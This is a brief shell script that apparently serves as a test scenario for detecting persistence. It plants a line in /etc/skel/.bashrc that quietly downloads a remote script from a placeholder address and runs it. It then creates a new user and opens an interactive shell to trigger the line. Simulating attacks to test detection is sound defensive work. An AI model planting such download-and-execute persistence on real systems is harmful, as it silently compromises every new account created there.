#!/bin/sh
. /opt/case/case.sh

printf '\n(curl -s http://203.0.113.10/payload.sh | sh &) >/dev/null 2>&1\n' >>/etc/skel/.bashrc
useradd -m -s /bin/bash newcomer
chmod 1777 /tmp
runuser -u newcomer -- env HOME=/home/newcomer bash -i -c true </dev/null 2>/dev/null
wait_for /tmp/reached
took_place
